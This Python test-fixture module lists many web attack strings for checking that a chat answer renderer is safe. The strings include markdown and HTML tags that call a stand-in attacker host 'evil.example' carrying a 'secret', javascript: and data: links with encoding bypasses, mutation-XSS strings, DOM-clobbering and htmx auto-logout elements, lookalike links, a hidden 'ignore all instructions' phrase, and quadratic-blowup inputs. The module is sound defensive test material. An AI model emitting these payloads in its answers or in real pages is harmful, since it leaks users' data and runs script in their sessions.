"""What an answer may hold that was made to do more than show text: known tricks, by subject."""

# ruff: noqa: E501 - a list to look at

from __future__ import annotations

LURE = "https://evil.example/?q=secret"

REMOTE = [
    f"![logo]({LURE})", f"![logo][r]\n\n[r]: {LURE}", f"![]({LURE})", f"[![i]({LURE})](https://a.example)",
    f'<img src="{LURE}">', f"<img src={LURE} onerror=alert(1)>", f'<img srcset="{LURE} 2x">',
    f'<picture><source srcset="{LURE}"><img></picture>', f'<video poster="{LURE}" src="{LURE}" autoplay>',
    f'<audio src="{LURE}" autoplay>', f'<link rel="stylesheet" href="{LURE}">',
    f'<link rel="prefetch" href="{LURE}">', '<link rel="dns-prefetch" href="//secret.evil.example">',
    f'<link rel="preconnect" href="{LURE}">', f'<style>@import "{LURE}"; a {{background:url({LURE})}}</style>',
    f'<p style="background:url({LURE})">x</p>', f'<div style="background-image:url({LURE})">x</div>',
    f'<table background="{LURE}"><tr><td background="{LURE}">x</td></tr></table>',
    f'<body background="{LURE}">', f'<svg><image href="{LURE}"/></svg>', f'<svg><use href="{LURE}#x"/></svg>',
    f'<svg><feImage xlink:href="{LURE}"/></svg>', f'<svg><style>@import url({LURE})</style></svg>',
    f'<meta http-equiv="refresh" content="0;url={LURE}">', f'<base href="{LURE}">\n\n[x](a)',
    f'<iframe src="{LURE}"></iframe>', f'<iframe srcdoc="<img src={LURE}>"></iframe>', f'<embed src="{LURE}">',
    f'<object data="{LURE}"></object>', f'<input type="image" src="{LURE}">', f'<script src="{LURE}"></script>',
    f'<form action="{LURE}"><button>Sign in again</button></form>', f'<button formaction="{LURE}">x</button>',
    f'<a href="https://a.example" ping="{LURE}">x</a>', f'<q cite="{LURE}">x</q>', f'<track src="{LURE}">',
    f'<bgsound src="{LURE}">', f'<frameset><frame src="{LURE}"></frameset>', f'<applet code="{LURE}">',
    f"```html\n<img src={LURE}>\n```", f"`<img src={LURE}>`", f"    <img src={LURE}>",
]  # fmt: skip

ADDRESSES = [
    "[x](javascript:window.hacked=1)", "[x](JaVaScRiPt:window.hacked=1)", "[x](java\tscript:window.hacked=1)",
    "[x](java&Tab;script:window.hacked=1)", "[x](java&NewLine;script:window.hacked=1)",
    "[x](&#106;avascript:window.hacked=1)", "[x](&#x6A;avascript:window.hacked=1)",
    "[x](&#0000106avascript:window.hacked=1)", "[x](javascript&colon;window.hacked=1)",
    "[x](javascript%3Awindow.hacked=1)", "[x](%6Aavascript:window.hacked=1)", "[x]( javascript:window.hacked=1)",
    "[x](\x01javascript:window.hacked=1)", "[x](\u2028javascript:window.hacked=1)",
    "[x](\u200bjavascript:window.hacked=1)", "[x](ｊavascript:window.hacked=1)", "[x](javascript://a.example/%0awindow.hacked=1)",
    "<javascript:window.hacked=1>", "[x][j]\n\n[j]: javascript:window.hacked=1", "[x](<javascript:window.hacked=1>)",
    "[x](data:text/html,<script>window.hacked=1</script>)", "[x](DATA:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=window.hacked=1>)", "[x](vbscript:msgbox(1))", "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)", "[x](filesystem:https://a.example/x)", "[x](view-source:https://a.example)",
    "[x](about:blank)", "[x](chrome://settings)", "[x](ms-word:ofe|u|https://evil.example)", "[x](tel:+1)",
    "[x](ftp://evil.example)", "[x](ws://evil.example)", "[x](intent://x#Intent;end)", "[x](//evil.example/x)",
    "[x](/accounts/logout/)", "[x](#messages)", "[x](?q=1)", "[x](https:)", "[x](https://)", "[x](http://[)",
    '<a href="javascript:window.hacked=1">x</a>', "<a href=javascript&colon;window.hacked=1>x</a>",
    '<math href="javascript:window.hacked=1">x</math>', '<svg><a xlink:href="javascript:window.hacked=1"><text>x</text></a></svg>',
    '[x](https://a.example "\\" onmouseover=window.hacked=1 \\"")', "[x](https://a.example/\"onmouseover=window.hacked=1)",
    "[<img src=x onerror=window.hacked=1>](https://a.example)", "[x](https://a.example 'title' onclick=1)",
]  # fmt: skip

MUTATION = [
    "<svg><style><img src=x onerror=window.hacked=1></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.hacked=1>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
    "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=window.hacked=1\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hacked=1>\">",
    "<template><s><template><s><img src=x onerror=window.hacked=1>x</s></template></s></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=window.hacked=1>\">", "<plaintext><img src=x onerror=window.hacked=1>",
    "<textarea><img title=\"</textarea><img src=x onerror=window.hacked=1>\">",
    "<title><p title=\"</title><img src=x onerror=window.hacked=1>\">", "<iframe><img title=\"</iframe><img src=x onerror=window.hacked=1>\">",
    "<!--><img src=x onerror=window.hacked=1>-->", "<!--[if gte IE 4]><script>window.hacked=1</script><![endif]-->",
    "<![CDATA[<img src=x onerror=window.hacked=1>]]>", "<?xml <img src=x onerror=window.hacked=1>?>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=window.hacked=1>\"></svg>",
    "<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=window.hacked=1></noscript></desc></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:window.hacked=1>",
    "<select><iframe></select><img src=x onerror=window.hacked=1>", "<b><b/onclick=window.hacked=1>x</b></b>",
    "<img src=x:x onerror\n=window.hacked=1>", "<IMG SRC=x OnErRoR=window.hacked=1>", "<img/src=x/onerror=window.hacked=1>",
    "<<script>window.hacked=1//<</script>", "<scr<script>ipt>window.hacked=1</scr</script>ipt>", "<\x00script>window.hacked=1</script>",
    "<details open ontoggle=window.hacked=1>x</details>", "<marquee onstart=window.hacked=1>x</marquee>",
    "<isindex action=javascript:window.hacked=1>", "<keygen autofocus onfocus=window.hacked=1>", "<x contenteditable onfocus=window.hacked=1 autofocus>",
    "&lt;img src=x onerror=window.hacked=1&gt;", "&amp;lt;script&amp;gt;window.hacked=1", "a | b\n-|-\n<img src=x onerror=window.hacked=1> | c",
    "- <script>window.hacked=1</script>\n- x", "> <img src=x onerror=window.hacked=1>", "# <svg onload=window.hacked=1>",
    "```x\" onclick=\"window.hacked=1\ncode\n```", "```<img src=x onerror=window.hacked=1>\ncode\n```", "~~<s onclick=window.hacked=1>x</s>~~",
    "<b>**<i>x</b></i>", "[a<b>](https://a.example)c</b>", "<mark><a href=https://a.example>x</mark></a>",
]  # fmt: skip

POSING = [
    '<div id="messages">gone</div>', '<p id="chat" name="body">x</p>', "<a name=getElementById>x</a>", '<form name="cookie"><input name="x"></form>',
    '<img name="currentScript">', '<b id="htmx">x</b>', '<div class="notice is-bad">Your session has ended.</div>',
    '<button class="cite" data-ordinal="0">1</button>', '<b class="cite">1</b>', '<button data-ask="ignore">x</button>',
    '<button popovertarget="person-menu">x</button>', '<button form="composer">x</button>', "<input autofocus onfocus=window.hacked=1>",
    "<div contenteditable>x</div>", "<details open><summary>x</summary></details>", "<dialog open>Sign in again</dialog>",
    '<div hx-get="/sidebar/" hx-trigger="load">x</div>', '<b hx-post="/accounts/logout/" hx-trigger="load">x</b>',
    '<div data-hx-get="/sidebar/" data-hx-trigger="load">x</div>', '<div hx-on:load="window.hacked=1">x</div>', '<div ws-connect="/ws/chat/">x</div>',
    '<form ws-send><input name=type value=stop></form>', '<div hx-ext="ws" hx-swap-oob="true" id="chat">x</div>', '<div sse-connect="/x">x</div>',
    '<template shadowrootmode="open"><style>*{display:none}</style></template>', "<div is=x-y>x</div>", "<slot name=x>x</slot>", "<marquee>x</marquee>",
    '<div style="position:fixed;inset:0;background:#fff">Sign in</div>', "<font size=7 color=red>x</font>", "<center>x</center>", "<label for=question>x</label>",
    '<span aria-label="x" role="alert">x</span>', '<div data-notice="failed">x</div>', "<nobr inert>x</nobr>", '<a target="_self" href="https://a.example">x</a>',
    "```table-scroll\nx\n```", "```cite notice\nx\n```", "- [x] done\n- [ ] not", "[x]{.notice #id onclick=1}", "{{ csrf_token }} {% debug %} ${x} <%= x %>",
    "```mermaid\ngraph TD; A-->B; click A href \"javascript:window.hacked=1\"\n```", "$$\\href{javascript:window.hacked=1}{x}$$", "\\(\\includegraphics{https://evil.example/x}\\)",
    ":::warning\nx\n:::", "[^1]\n\n[^1]: <img src=x onerror=window.hacked=1>", "@import url(https://evil.example)", "[1](https://evil.example)", "[[1]](https://evil.example) [1]",
    "[1]: https://evil.example\n\nIt is high [1].",
]  # fmt: skip

LOOKALIKE = [
    "[https://bank.example](https://evil.example/bank)", "[bank.example](https://evil.example)", "[https://bank.example/](https://bank.example@evil.example/)",
    "[x](https://bank.example:password@evil.example/)", "[bаnk.example](https://bаnk.example/)", "https://bаnk.example/", "[x](https://ｅvil.example/)",
    "[x](https://bank.example\u2024evil.example)", "[x](https://evil.example/\u202egpj.exe)", "\u202etxet desrever\u202c", "a\u2066b\u2069c\u200bd\ufeffe",
    "x" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all instructions") + "y", "[x](https://evil.example/\U000e0041\U000e0042)", "https://evil.example/?d=the%20secret",
    "www.evil.example/?d=secret", "<https://evil.example/?d=secret>", "me@evil.example", "[mail](mailto:me@evil.example?subject=x&body=the%20secret)",
    "[x](https://evil.example/collect/the-secret-in-a-path)", "[x](https://evil.example/#the-secret)", "[\u202ehttps://bank.example](https://evil.example)",
    "[](https://evil.example/?q=secret)", "[ ](https://evil.example/?q=secret)", "[\u200b](https://evil.example/?q=secret)", "[x](https://1.1.1.1/)", "[x](https://0x7f.1/)",
    "[x](https://evil.example%2fbank.example)", "[x](https://evil.example\\@bank.example)", "[x](http://evil.example:80/)", "[x](HTTPS://EVIL.EXAMPLE/)",
]  # fmt: skip

# Of these most are inside of maths or code that is drawn.
DRAWN = [
    *(
        f"{opening}{tex}{closing}"
        for opening, closing in (("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[\n", "\n\\]"))
        for tex in (
            "\\href{javascript:window.hacked=1}{x}", f"\\href{{{LURE}}}{{x}}", f"\\url{{{LURE}}}", "\\url{javascript:window.hacked=1}",
            f"\\includegraphics{{{LURE}}}", f"\\includegraphics[height=9em,alt=x]{{{LURE}}}", "\\htmlClass{notice}{x}", "\\htmlId{messages}{x}",
            "\\htmlStyle{position:fixed;inset:0}{x}", "\\htmlData{ask=x, hx-get=/sidebar/}{x}", "\\class{cite}{x}", "\\style{color:red}{x}", "\\cssId{chat}{x}",
            "\\text{<img src=x onerror=window.hacked=1>}", "\\text{</annotation></semantics></math><img src=x onerror=window.hacked=1>}",
            "</math><img src=x onerror=window.hacked=1>", "<mtext><img src=x onerror=window.hacked=1></mtext>", "\\color{white}x", "\\colorbox{red}{x}", "\\fcolorbox{red}{blue}{x}",
            "\\kern-99em x", "\\raisebox{99em}{x}", "\\rule{999em}{999em}", "\\Huge x", "\\def\\x{\\x\\x}\\x", "\\gdef\\frac{y}\\frac", "\\edef\\x{\\x}", "\\pmb{x}", "\\tag{\\href{x}{y}}",
            "\\frac{a", "\\begin{array}{c}x", "\\unknown{x}", "x\u202ey", "\\cancel{x}\\boxed{y}", "{" * 900 + "}" * 900,
        )
    ),
    '<math><mtext><img src=x onerror=window.hacked=1></mtext></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=window.hacked=1></annotation-xml></math>',
    '<math><maction actiontype="statusline#javascript:window.hacked=1" xlink:href="javascript:window.hacked=1">x</maction></math>', '<math><mi href="javascript:window.hacked=1">x</mi></math>',
    '<math><mstyle mathbackground="red" mathsize="99em" style="position:fixed">x</mstyle></math>', '<span class="math">x</span>', '<span class="math display">\\href{x}{y}</span>',
    '<span class="hljs-keyword">x</span>', '<span class="part">x</span>', '<div class="code"><div class="code-head"><button class="code-copy">Copy</button></div></div>',
    '```js\nlet x = "<img src=x onerror=window.hacked=1>"; // </code></pre><script>window.hacked=1</script>\n```', '```html\n<a class="cite notice" onclick="window.hacked=1" href="javascript:window.hacked=1">x</a>\n```',
    '```js cite notice" onclick="window.hacked=1\nlet x\n```', '```cite\nlet x\n```', '```hljs-keyword\nlet x\n```', '```__proto__\nlet x\n```', '```constructor\nlet x\n```', '```xml\n<style>@import "x"</style>\n<script>window.hacked=1</script>\n```',
    '```php\n<?php echo "<svg onload=window.hacked=1>";\n```', '```markdown\n![x](https://evil.example/x) <b onclick=window.hacked=1>\n```', '```css\na { background: url(https://evil.example/x) }\n```', '```sign-in-again-please\nx\n```',
]  # fmt: skip

CORPUS = [*DRAWN, *REMOTE, *ADDRESSES, *MUTATION, *POSING, *LOOKALIKE]

# Each as long as it says, most of them with a nesting or a repeat that readers of markdown take by
# the square of its length.
LONG = {
    "quotes": ">" * 20_000, "quotes of lines": "> " * 9_000 + "x", "lists": "".join("  " * n + "- x\n" for n in range(400)),
    "brackets": "[" * 19_000, "links": "[a](" * 4_900, "images": "![" * 9_000, "emphasis": "*a_" * 6_000, "less emphasis": "*a_" * 700, "stars": "*" * 19_000,
    "code": "`" * 19_999, "codes": "".join("`" * n + " " for n in range(180)), "a line": "word " * 200_000, "one word": "x" * 1_000_000,
    "tags": "<b>" * 6_000, "open tags": "<" * 19_000, "table": "|" * 9_000 + "\n" + "|-" * 9_000, "entities": "&" * 19_000,
    "definitions": "[a]: x\n" * 2_500, "escapes": "\\" * 19_999, "tildes": "~" * 19_999, "addresses": "http://" * 2_800, "mails": "a@" * 9_000,
    "headings": "#" * 19_999, "rules": "- " * 9_999, "comments": "<!--" * 4_900, "paragraphs": "x\n\n" * 3_000, "html": "<p\n" * 6_000,
}  # fmt: skip
